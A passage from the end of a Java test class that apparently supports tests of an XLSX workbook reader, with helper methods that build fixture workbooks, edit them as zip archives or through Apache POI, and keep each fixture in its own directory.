        return fixtures.writeXlsx(fixtureDirectory());
    }

    private Path edited(String name, Consumer<ZipEdit> change) {
        return edited(name, xlsx(WorkbookFixtures.valid()), change);
    }

    private Path edited(String name, Path original, Consumer<ZipEdit> change) {
        ZipEdit zip = ZipEdit.of(original);
        change.accept(zip);
        return zip.write(directory.resolve(name));
    }

    private Path poiEdited(String name, Consumer<XSSFWorkbook> change) {
        Path target = directory.resolve(name);
        try (InputStream in = Files.newInputStream(xlsx(WorkbookFixtures.valid())); XSSFWorkbook workbook = new XSSFWorkbook(in);
             OutputStream out = Files.newOutputStream(target)) {
            change.accept(workbook);
            workbook.write(out);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return target;
    }

    private Path move(Path file, String name) {
        try {
            return Files.move(file, directory.resolve(name));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** WorkbookFixtures always writes "workbook.xlsx", so each fixture gets a directory of its own. */
    private Path fixtureDirectory() {
        try {
            return Files.createDirectories(directory.resolve(".fixtures").resolve(String.valueOf(++fixtureCount)));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
